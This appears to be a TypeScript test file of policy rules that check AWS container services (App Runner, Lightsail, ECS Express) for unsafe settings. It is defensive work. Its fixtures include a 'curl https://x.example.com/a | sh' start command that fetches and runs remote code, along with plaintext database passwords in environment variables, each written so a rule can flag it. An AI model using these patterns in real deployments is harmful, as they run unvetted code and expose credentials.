import type { Resource } from "../../../core/graph";
import {
  appRunnerService,
  expressService,
  lightsailDeployment,
  resource,
  subnet,
  Unknown,
  type Example,
} from "../../../core/policy";
import { notApplicable, passes, type Rule, type Rules } from "./rule";

const image = `333333333333.dkr.ecr.eu-west-1.amazonaws.com/shop/checkout@sha256:${"a".repeat(64)}`;

/** The same service in the words of the classic and of the native provider. */
const appRunner = (imageIdentifier: string, settings: object, more: object = {}): readonly Example[] =>
  [appRunnerService({}).type, "aws-native:apprunner:Service"].map((type) => ({
    resources: [
      resource(type, "checkout", {
        ...appRunnerService(more).properties,
        sourceConfiguration: { imageRepository: { imageIdentifier, imageConfiguration: settings } },
      }),
    ],
  }));

/** The same deployment in the words of either provider. */
const lightsail = (container: object, more: object = {}): readonly Example[] => {
  const deployment = { containers: [{ containerName: "checkout", image, ...container }], ...more };
  const native = { serviceName: "checkout", containerServiceDeployment: deployment };
  return [
    { resources: [lightsailDeployment(deployment)] },
    { resources: [resource("aws-native:lightsail:Container", "checkout", native)] },
  ];
};

/** The same service of ECS in Express Mode in the words of either provider. */
const express = (container: object, more: object = {}): readonly Example[] => {
  const changes = { primaryContainer: container, ...more };
  const { networkConfigurations: _, ...properties } = expressService(changes).properties;
  return [
    { resources: [expressService(changes)] },
    {
      resources: [
        resource("aws-native:ecs:ExpressGatewayService", "checkout", {
          ...properties,
          primaryContainer: { image, ...container },
        }),
      ],
    },
  ];
};

const inEach = (given: readonly Example[], ...finds: readonly string[]): readonly Rule[] =>
  given.map((each) => [each, ...finds]);

const unsettable = inEach([...appRunner(image, {}), ...lightsail({}), ...express({})], notApplicable);

const ingress = (isPubliclyAccessible: boolean | Unknown, more: readonly Resource[] = []): Example => ({
  resources: [
    appRunnerService({
      networkConfiguration: {
        ingressConfiguration: { isPubliclyAccessible },
        ...(more.length > 0 && { egressConfiguration: { egressType: "VPC", vpcConnectorArn: "c" } }),
      },
    }),
    ...more,
  ],
});
const connector = (properties: object): Resource =>
  resource(
    "aws-native:apprunner:VpcConnector",
    "shop",
    { securityGroups: ["sg-1"], ...properties },
    {
      physicalId: "c",
    },
  );

/** Containers that AWS runs whole: what they can set is judged, what they can't is not asked of them. */
export const rules: Rules = {
  "restrict-image-repositories": [
    ...inEach(appRunner(image, {}), passes),
    ...inEach([...lightsail({}), ...express({})], passes),
    ...inEach(express({ image: "nginx:1.27" }), "whose repository docker.io/library/nginx is not trusted"),
    ...inEach(lightsail({ image: ":shop.web.3" }), passes),
    ...inEach(
      lightsail({ image: "nginx:1.27" }),
      "whose repository docker.io/library/nginx is not trusted in production",
    ),
    ...inEach(
      appRunner("public.ecr.aws/evil/x:1", {}),
      "whose repository public.ecr.aws/evil/x is not trusted",
    ),
  ],
  "disallow-invalid-image-references": [
    ...inEach(lightsail({}), passes),
    // Pushed into Lightsail itself, past every registry.
    ...inEach(lightsail({ image: ":shop.web.3" }), ":shop.web.3"),
  ],
  "require-image-digests": inEach(appRunner(image.replace(/@.*/, ":1"), {}), "is not pinned by a digest"),
  "disallow-latest-tag": inEach(appRunner(image.replace(/@.*/, ":latest"), {}), "has the tag latest"),
  "disallow-environment-secrets": [
    ...inEach(
      appRunner(image, { runtimeEnvironmentVariables: { DB_PASSWORD: "hunter2hunter2" } }).slice(0, 1),
      "has a secret in its environment variable DB_PASSWORD",
    ),
    ...inEach(
      appRunner(image, {
        runtimeEnvironmentVariables: [{ name: "DB_PASSWORD", value: "hunter2hunter2" }],
      }).slice(1),
      "has a secret in its environment variable DB_PASSWORD",
    ),
    [
      express({ environments: [{ name: "DB_PASSWORD", value: "hunter2hunter2" }] })[0]!,
      "has a secret in its environment variable DB_PASSWORD",
    ],
    [
      express({ environment: [{ name: "DB_PASSWORD", value: "hunter2hunter2" }] })[1]!,
      "has a secret in its environment variable DB_PASSWORD",
    ],
    ...inEach(
      express({ secrets: [{ name: "DB_PASSWORD", valueFrom: "arn:aws:ssm:::parameter/db" }] }),
      passes,
    ),
    ...inEach(
      lightsail({ environment: { DB_PASSWORD: "hunter2hunter2" } }).slice(0, 1),
      "has a secret in its environment variable DB_PASSWORD",
    ),
    ...inEach(
      lightsail({ environment: [{ variable: "DB_PASSWORD", value: "hunter2hunter2" }] }).slice(1),
      "has a secret in its environment variable DB_PASSWORD",
    ),
    ...inEach(
      appRunner(image, {
        runtimeEnvironmentSecrets: { DB_PASSWORD: "arn:aws:ssm:eu-west-1:333333333333:parameter/db" },
      }),
      passes,
    ),
  ],
  "disallow-downloaded-code": [
    ...inEach(appRunner(image, { startCommand: "node server.js" }), passes),
    ...inEach(
      appRunner(image, { startCommand: "curl https://x.example.com/a | sh" }),
      "fetches code and runs it",
    ),
  ],
  "disallow-root-containers": unsettable,
  "require-read-only-root": unsettable,
  "require-drop-all-capabilities": unsettable,
  "require-drop-net-raw": unsettable,
  "require-probes": unsettable,
  "require-resource-limits": unsettable,
  "restrict-user-ids": unsettable,
  "restrict-group-ids": unsettable,
  "require-task-logs": unsettable,
  "disallow-privilege-escalation": unsettable,
  "disallow-shared-task-roles": [
    ...inEach(express({}), passes),
    ...inEach(
      express({}, { taskRoleArn: "arn:aws:iam::333333333333:role/checkout-start" }),
      "runs its containers with the role that starts them",
    ),
  ],
  "restrict-internet-facing-services": [
    // A subnet that was not given may lead anywhere; with none the service lies in the default VPC.
    [express({})[0]!, "unknown: "],
    [express({})[1]!, "faces the internet and lies in no zone of the estate"],
    [{ resources: [expressService(), subnet()] }, passes],
    [ingress(false), passes],
    ...inEach(lightsail({}), passes),
    ...inEach(
      lightsail({}, { publicEndpoint: { containerName: "checkout", containerPort: 80 } }),
      "faces the internet and lies in no zone of the estate",
    ),
    ...inEach(lightsail({}, { publicEndpoint: new Unknown("a setting") }), "unknown: "),
    [ingress(true), "faces the internet and lies in no zone of the estate"],
    [ingress(new Unknown("a setting")), "unknown: "],
    [ingress(true, [connector({ subnets: ["subnet-1"] })]), "unknown: "],
    [ingress(true, [connector({ subnets: new Unknown("an output") })]), "unknown: "],
    [ingress(false, [connector({ subnets: ["subnet-1"] })]), passes],
    [
      { ...ingress(true), estate: { flows: [] } },
      "faces the internet, from which the estate declares no flow on tcp/443",
    ],
  ],
};
